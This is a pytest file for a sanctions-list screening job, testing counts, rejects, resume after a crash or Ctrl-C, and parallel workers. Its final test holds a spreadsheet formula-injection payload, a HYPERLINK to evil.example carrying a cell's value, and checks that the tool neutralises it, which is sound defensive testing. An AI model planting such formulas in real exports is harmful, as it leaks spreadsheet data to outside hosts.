"""The screening job: reconciled counts, rejects, resume after interruption, Ctrl-C, workers."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from redflags.errors import RedflagsError
from redflags.reports.results import OutputPaths
from redflags.screening.checkpoint import Checkpoint
from redflags.screening.columns import detect_columns
from redflags.screening.job import EngineBatch, ScreenOptions, run_screening
from redflags.screening.reader import open_input
from tests import screen_fakes
from tests.screen_fakes import FakeScreener, fake_batch

OPTS = ScreenOptions(threshold=0.7, limit=5)


def write_input(path: Path, n: int = 50) -> Path:
    """n rows; every 10th a listed name, row 7 has no name, row 13 a date not understood."""
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["Supplier Name", "Land", "Date of Birth", "Type"])
        for i in range(n):
            name = f"Supplier {i} Ltd"
            if i % 10 == 3:
                name = f"HIKVISION branch {i}"
            dob = ""
            if i == 7:
                name = "N/A"
            if i == 13:
                dob, name = "31/31/1999", f"Person {i}"
            w.writerow([name, "China" if i % 2 else "DE", dob, "person" if i == 13 else ""])
    return path


def run(tmp: Path, src: Path, **kw: Any) -> Any:
    source = open_input(src)
    cols = detect_columns(source.headers)
    kw.setdefault("batch_fn", EngineBatch(FakeScreener(), 0.7, 5))
    kw.setdefault("options", OPTS)
    return run_screening(source, cols, OutputPaths(tmp / "out" / "run"), batch_size=4, **kw)


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_counts_reconcile_and_rejects_have_reasons_and_lines(tmp_path: Path) -> None:
    src = write_input(tmp_path / "in.csv")
    outcome = run(tmp_path, src)
    ck = outcome.checkpoint
    assert not outcome.interrupted and ck.complete
    assert ck.rows_done == 50 == ck.screened + ck.rejected
    assert ck.rejected == 1
    assert ck.rows_with_hits == 4  # rows 3, 23, 33, 43 (13 has another name)
    assert ck.hits_by_list == {"us_bis_entity_list": 4, "us_fcc_covered": 4}
    paths = OutputPaths(tmp_path / "out" / "run")
    rejects = read_csv(paths.rejects)
    assert [(r["line"], r["reason"]) for r in rejects] == [("9", "no_name")]
    rows = read_csv(paths.rows_csv)
    assert len(rows) == 49
    # a date not understood: the name is screened without it, with a note
    assert "31/31/1999" in next(r for r in rows if r["line"] == "15")["notes"]
    hit_rows = [r for r in rows if r["status"] == "hit"]
    assert [r["line"] for r in hit_rows] == ["5", "25", "35", "45"]
    assert hit_rows[0]["best_entity_id"] == "us-bis-hikvision"
    hits = read_csv(paths.hits_csv)
    assert len(hits) == 4 and "84 FR 54004" in hits[0]["citations"]
    lines = [json.loads(x) for x in paths.jsonl.read_text(encoding="utf-8").splitlines()]
    assert len(lines) == 49
    assert lines[3]["hits"][0]["explanation"][0]["name"] == "name"


def test_interrupt_then_resume_screens_each_row_once(tmp_path: Path) -> None:
    src = write_input(tmp_path / "in.csv", 120)
    full = run(tmp_path / "full", src)
    expected = {
        k: (tmp_path / "full" / "out" / f"run.{k}").read_bytes()
        for k in ("results.csv", "hits.csv", "results.jsonl", "rejects.csv")
    }

    screen_fakes.CALLS.clear()

    def stop_after_40(ck: Checkpoint) -> None:
        if ck.rows_done >= 40:
            raise KeyboardInterrupt

    first = run(tmp_path, src, on_progress=stop_after_40, checkpoint_every=10_000)
    assert first.interrupted and not first.checkpoint.complete
    assert first.checkpoint.rows_done == 40
    saved = Checkpoint.load(OutputPaths(tmp_path / "out" / "run").checkpoint)
    assert saved.rows_done == 40 and not saved.complete
    calls_first = list(screen_fakes.CALLS)

    second = run(tmp_path, src, resume=True)
    assert second.resumed_from == 40 and second.checkpoint.complete
    calls_second = screen_fakes.CALLS[len(calls_first) :]
    assert not set(calls_first) & set(calls_second), "a row was screened twice"
    assert len(calls_first) + len(calls_second) == full.checkpoint.screened
    for k, data in expected.items():
        assert (tmp_path / "out" / f"run.{k}").read_bytes() == data, k
    ck = second.checkpoint
    assert (ck.rows_done, ck.screened, ck.rejected, ck.hits) == (
        120,
        full.checkpoint.screened,
        full.checkpoint.rejected,
        full.checkpoint.hits,
    )


def test_crash_mid_run_leaves_a_resumable_checkpoint(tmp_path: Path) -> None:
    src = write_input(tmp_path / "in.csv", 60)

    def boom(ck: Checkpoint) -> None:
        if ck.rows_done >= 20:
            raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        run(tmp_path, src, on_progress=boom)
    ck = Checkpoint.load(OutputPaths(tmp_path / "out" / "run").checkpoint)
    assert ck.rows_done == 20 and not ck.complete
    # garbage past the checkpoint (a half-written batch) is truncated on resume
    with open(tmp_path / "out" / "run.results.csv", "a", encoding="utf-8") as fh:
        fh.write("half a row,")
    done = run(tmp_path, src, resume=True)
    rows = read_csv(tmp_path / "out" / "run.results.csv")
    assert done.checkpoint.rows_done == 60 and len(rows) == done.checkpoint.screened
    assert all(r["line"].isdigit() for r in rows)


def test_resume_refuses_other_options_or_a_changed_file(tmp_path: Path) -> None:
    src = write_input(tmp_path / "in.csv", 30)

    def stop(ck: Checkpoint) -> None:
        raise KeyboardInterrupt

    run(tmp_path, src, on_progress=stop)
    with pytest.raises(RedflagsError, match="threshold"):
        run(tmp_path, src, resume=True, options=ScreenOptions(threshold=0.9, limit=5))
    with open(src, "a", encoding="utf-8") as fh:
        fh.write("Another Supplier,DE,,\n")
    with pytest.raises(RedflagsError, match="changed"):
        run(tmp_path, src, resume=True)


def test_resume_refuses_other_list_versions(tmp_path: Path) -> None:
    """Resumed after an import, the first rows' hits came from the old lists and the report
    named only the new ones."""
    src = write_input(tmp_path / "in.csv", 30)

    def stop(ck: Checkpoint) -> None:
        raise KeyboardInterrupt

    before = {"un_sc": "un_sc@bundle-2026-02-27", "gb_ofsi": "gb_ofsi@v1"}
    run(tmp_path, src, on_progress=stop, list_versions=before)
    now = {**before, "un_sc": "un_sc@20261128-2025-11-20"}
    with pytest.raises(RedflagsError, match=r"lists changed.*un_sc: un_sc@bundle-2026-02-27 ->"):
        run(tmp_path, src, resume=True, list_versions=now)
    done = run(tmp_path, src, resume=True, list_versions=before)
    assert done.checkpoint.complete and done.checkpoint.list_versions == before


def test_two_worker_processes_give_the_same_results(tmp_path: Path) -> None:
    src = write_input(tmp_path / "in.csv", 200)
    one = run(tmp_path / "a", src)
    two = run(tmp_path / "b", src, workers=2, batch_fn=None, worker_factory=fake_batch)
    assert two.checkpoint.rows_done == one.checkpoint.rows_done == 200
    for name in ("run.results.csv", "run.hits.csv", "run.rejects.csv"):
        a = (tmp_path / "a" / "out" / name).read_bytes()
        assert a == (tmp_path / "b" / "out" / name).read_bytes(), name


SIGINT_SCRIPT = textwrap.dedent(
    """
    import sys
    from pathlib import Path
    from redflags.reports.results import OutputPaths
    from redflags.screening.columns import detect_columns
    from redflags.screening.job import EngineBatch, ScreenOptions, run_screening
    from redflags.screening.reader import open_input
    from tests.screen_fakes import FakeScreener

    src, out = Path(sys.argv[1]), Path(sys.argv[2])
    inner = EngineBatch(FakeScreener(), 0.7, 5)
    state = {"batches": 0}

    def batch(queries):
        state["batches"] += 1
        if state["batches"] == 6:
            print("PROGRESS", flush=True)
            sys.stdin.read()  # blocks until the test has sent SIGINT and closed stdin
        return inner(queries)

    source = open_input(src)
    outcome = run_screening(source, detect_columns(source.headers), OutputPaths(out),
                            options=ScreenOptions(threshold=0.7, limit=5), batch_fn=batch,
                            batch_size=10)
    print("STOPPED", outcome.interrupted, outcome.checkpoint.rows_done, flush=True)
    sys.exit(130 if outcome.interrupted else 0)
    """
)


def test_sigint_stops_cleanly_and_flushes(tmp_path: Path) -> None:
    src = write_input(tmp_path / "in.csv", 500)
    script = tmp_path / "run.py"
    script.write_text(SIGINT_SCRIPT, encoding="utf-8")
    root = Path(__file__).resolve().parents[1]
    env = {**os.environ, "PYTHONPATH": f"{root}{os.pathsep}{root / 'src'}"}
    proc = subprocess.Popen(
        [sys.executable, str(script), str(src), str(tmp_path / "out" / "run")],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        cwd=root,
    )
    assert proc.stdout is not None and proc.stdin is not None
    assert proc.stdout.readline().strip() == "PROGRESS"
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)  # closes stdin: the child's read returns
    assert proc.returncode == 130, err
    assert out.split() == ["STOPPED", "True", "60"]
    ck = Checkpoint.load(OutputPaths(tmp_path / "out" / "run").checkpoint)
    assert ck.rows_done == 60 and not ck.complete
    rows = read_csv(tmp_path / "out" / "run.results.csv")
    assert len(rows) == ck.screened
    # and it resumes to the end from there
    done = run(tmp_path, src, resume=True)
    assert done.resumed_from == 60 and done.checkpoint.rows_done == 500


@pytest.mark.slow
def test_memory_stays_flat_as_the_input_grows(tmp_path: Path) -> None:
    import tracemalloc

    peaks = []
    for n in (500, 4_000):
        src = write_input(tmp_path / f"in{n}.csv", n)
        tracemalloc.start()
        run(tmp_path / str(n), src, batch_fn=EngineBatch(FakeScreener(record=False), 0.7, 5))
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] * 1.5, peaks  # 8x the rows, not 8x the memory


def test_failure_inside_a_batch_keeps_the_checkpoint_on_a_batch_boundary(tmp_path: Path) -> None:
    src = write_input(tmp_path / "in.csv", 30)
    good = EngineBatch(FakeScreener(record=False), 0.7, 5)
    calls = {"n": 0}

    def flaky(queries: list[dict[str, Any]]) -> list[list[dict[str, Any]]]:
        calls["n"] += 1
        out = good(queries)
        if calls["n"] == 2:
            out[2] = [{"malformed": True}]  # the writer fails on the third row of batch 2
        return out

    with pytest.raises(KeyError):
        run(tmp_path, src, batch_fn=flaky)
    ck = Checkpoint.load(OutputPaths(tmp_path / "out" / "run").checkpoint)
    assert ck.rows_done == 4 and ck.screened + ck.rejected == 4 and not ck.complete
    done = run(tmp_path, src, resume=True)
    rows = read_csv(tmp_path / "out" / "run.results.csv")
    assert done.checkpoint.rows_done == 30
    assert [int(r["line"]) for r in rows] == sorted({int(r["line"]) for r in rows})  # no repeats
    assert len(rows) == done.checkpoint.screened


def test_blank_rows_between_records_are_counted(tmp_path: Path) -> None:
    """Skipped in silence, they made "Rows read" short of the file's lines."""
    src = tmp_path / "in.csv"
    src.write_text("name,country\nHikvision,CN\n,,\n\nBosch GmbH,DE\n,\n\n", encoding="utf-8")
    outcome = run(tmp_path, src)
    assert outcome.checkpoint.rows_done == 2 and outcome.checkpoint.blank_rows == 2
    saved = Checkpoint.load(OutputPaths(tmp_path / "out" / "run").checkpoint)
    assert saved.blank_rows == 2  # the trailing ones are no gap between records


def test_a_cell_that_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
    """A supplier name from a web form, '=HYPERLINK("http://evil.example/?x="&A1,"x")', was
    written as is into results.csv and ran as a formula when a manager opened the file."""
    src = tmp_path / "in.csv"
    src.write_text('Name,Land\n"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",DE\n'
                   "@SUM(1+1) HIKVISION,CN\n-Plain Supplier,DE\n", encoding="utf-8")
    run(tmp_path, src)
    paths = OutputPaths(tmp_path / "out" / "run")
    rows = read_csv(paths.rows_csv)
    assert [r["name"] for r in rows] == [
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "'@SUM(1+1) HIKVISION",
        "'-Plain Supplier"]
    assert all(not r["name"].startswith(("=", "+", "-", "@"))
               for r in read_csv(paths.hits_csv))
    # the JSON lines keep the name exactly as read
    first = json.loads(paths.jsonl.read_text(encoding="utf-8").splitlines()[0])
    assert first["name"].startswith("=HYPERLINK")
